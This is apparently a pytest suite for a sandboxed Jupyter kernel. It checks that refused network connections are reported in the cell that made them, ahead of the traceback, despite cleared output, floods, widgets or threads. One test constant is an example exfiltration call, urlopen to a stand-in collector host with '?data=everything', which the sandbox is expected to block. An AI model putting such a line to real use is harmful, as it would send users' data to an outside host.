"""A refusal is read in the cell that caused it, before the traceback, whatever that cell displays."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.hostile import CAPTURES, CAPTURES_OF_JUPYTERLAB, CAPTURES_OF_NBCLIENT, CAPTURES_OF_OURS
from tests.support.hostile import CAPTURES_PREAMBLE as PREAMBLE
from tests.support.lab import Cell, Lab, Notebook, wait_in_page
from tests.support.servers import TcpListener

CALL = "import urllib.request\nurllib.request.urlopen('http://collector.example.com/?data=everything')"
TOLD = "collector.example.com was not resolved"
ATTEMPT = "import socket\ntry: socket.getaddrinfo('collector.example.com', 80)\nexcept OSError: pass\n"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_notice_stands_before_the_traceback(lab: Lab, tmp_path: Path, dark: bool) -> None:
    with lab.notebook("sandboxed", dark=dark) as notebook:
        notebook.run("%xmode Minimal")
        cell = notebook.run(CALL)
        cell.shows(TOLD)
        assert 0 <= cell.text.index(TOLD) < cell.text.index("URLError")
        assert '"collector.example.com:80,443"' in cell.text
        cell.element.screenshot(path=tmp_path / "notice.png")


CELLS = {
    "clear_output": f"{ATTEMPT}from IPython.display import clear_output\nclear_output()\nprint('cleared')",
    "clear_output that waits": (
        f"{ATTEMPT}from IPython.display import clear_output\nclear_output(wait=True)\nprint('cleared')"
    ),
    "a flood": f"{ATTEMPT}for number in range(500): display(number)",  # more than the server passes on: FULL
}


def test_the_notice_is_not_hidden(lab: Lab) -> None:
    with lab.notebook("sandboxed") as notebook:
        for code in CELLS.values():
            notebook.run(code).shows(TOLD)


# --- attempt() in tests/support/hostile.py is refused and prints "taken"


@pytest.fixture
def go(lab: Lab) -> Iterator[Path]:
    """A file for which cells wait."""
    file = lab.folder / "go"
    yield file
    file.unlink(missing_ok=True)


def is_out_of_sight(cell: Cell) -> bool:
    """What the cell printed is not among its own outputs, or is none that the page lists."""
    return "taken" not in str(cell.outputs) or "taken" not in cell.text


def test_an_output_widget_does_not_take_the_notice(lab: Lab) -> None:
    taken = {**CAPTURES, **CAPTURES_OF_JUPYTERLAB}
    with lab.notebook("python3") as notebook:
        notebook.run(PREAMBLE)
        assert [how for how, code in taken.items() if not is_out_of_sight(notebook.run(code))] == []
    with lab.notebook("sandboxed") as notebook:
        notebook.run(PREAMBLE)
        for code in {**taken, **CAPTURES_OF_NBCLIENT, **CAPTURES_OF_OURS}.values():
            notebook.run(code).shows(TOLD)
        kept = notebook.run("output = Output()\nwith output: attempt()\noutput")
        kept.output.locator(".widget-output", has_text="taken").wait_for()


# Name -> what a cell does, and what its outputs say when it is done. The server's limits: tests/support/lab.py.
FULL = {
    "more outputs than the page lists": ("for number in range(60): display(number)", "'59'"),
    "more messages than the server passes on": (
        "from IPython.display import clear_output\nfor _ in range(800): clear_output(wait=True)",
        "message rate exceeded",
    ),
    "more text than the server passes on": (
        "for _ in range(40): print('x' * 20_000, flush=True)",
        "data rate exceeded",
    ),
}


def run_full(notebook: Notebook, go: Path, name: str) -> Cell:
    code, full = FULL[name]
    go.unlink(missing_ok=True)
    cell = notebook.begin(f"{code}\nwhile not os.path.exists('go'): pass\nattempt()")
    wait_in_page(notebook.page, lambda: full in str(cell.outputs), lambda: f"{full!r}: {name}")
    go.touch()
    cell.wait()
    notebook.settle()
    return cell


def test_a_notice_is_seen_where_no_other_output_is(lab: Lab, go: Path) -> None:
    with lab.notebook("python3") as notebook:
        notebook.run(PREAMBLE + "import os")
        assert [name for name in FULL if not is_out_of_sight(run_full(notebook, go, name))] == []
    with lab.notebook("sandboxed") as notebook:
        notebook.run(PREAMBLE + "import os")
        for name in FULL:
            run_full(notebook, go, name).shows(TOLD)


def test_a_widget_that_is_part_of_itself_does_not_stop_the_page(lab: Lab) -> None:
    part = "send('comm_open', 'me', {'state': {**NAMES, 'layout': 'IPY_MODEL_me'}}, target_name='jupyter.widget')"
    code = f"print('begun', flush=True)\n{part}\nattempt()"
    with lab.notebook("python3") as notebook:
        notebook.run(PREAMBLE)
        cell = notebook.begin(code)
        cell.shows("begun")
        wait_in_page(notebook.page, lambda: lab.is_idle(notebook), lambda: "the kernel's end of the cell")
        notebook.settle()
        assert "taken" not in cell.text
    with lab.notebook("sandboxed") as notebook:
        notebook.run(PREAMBLE)
        cell = notebook.run(code)
        cell.shows(TOLD)
        cell.shows("taken")


def test_a_connection_to_an_address_is_told_in_its_cell(lab: Lab) -> None:
    with TcpListener() as other:
        code = f"import socket\nsocket.create_connection(('127.0.0.1', {other.port})).close()\nprint('connected')"
        with lab.notebook("python3") as notebook:
            notebook.run(code).shows("connected")
        assert len(other.received()) == 1
        with lab.notebook("sandboxed") as notebook:
            told, cell = f"connection to localhost:{other.port} (127.0.0.1) refused", notebook.run(code)
            cell.shows(told)
            assert cell.text.index(told) < cell.text.index("PermissionError")
            assert f'"localhost:{other.port}"' in cell.text
        assert len(other.received()) == 1


def test_a_thread_that_goes_on_is_told_in_the_cell_that_began_it(lab: Lab, go: Path) -> None:
    code = "import os, threading, time\ndef later():\n    while not os.path.exists('go'): time.sleep(0.01)\n"
    code += "".join(f"    {line}\n" for line in ATTEMPT.splitlines()) + "threading.Thread(target=later).start()"
    with lab.notebook("sandboxed") as notebook:
        cell = notebook.run(code)
        assert TOLD not in cell.text
        go.touch()
        cell.shows(TOLD)


def test_the_command_that_the_page_shows_leads_on(lab: Lab, tmp_path: Path) -> None:
    """As a person takes it from there: selected in the page, pasted into a terminal, the cell run again."""
    with TcpListener() as other, lab.notebook("sandboxed") as notebook:
        code = f"import socket\nsocket.create_connection(('127.0.0.1', {other.port})).close()\nprint('connected')"
        cell = notebook.run(code)
        cell.shows("refused")
        found = re.search(r"in a terminal:\s*(sandboxed-kernel allow [^\n]*?)\s*(?:\n|Or in|$)", cell.text)
        assert found is not None, cell.text
        env = {"HOME": str(tmp_path), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
        done = subprocess.run(["sh", "-c", found[1]], env=env, capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, done
        assert len(other.received()) == 0
        notebook.run(code).shows("connected")
        assert len(other.received()) == 1
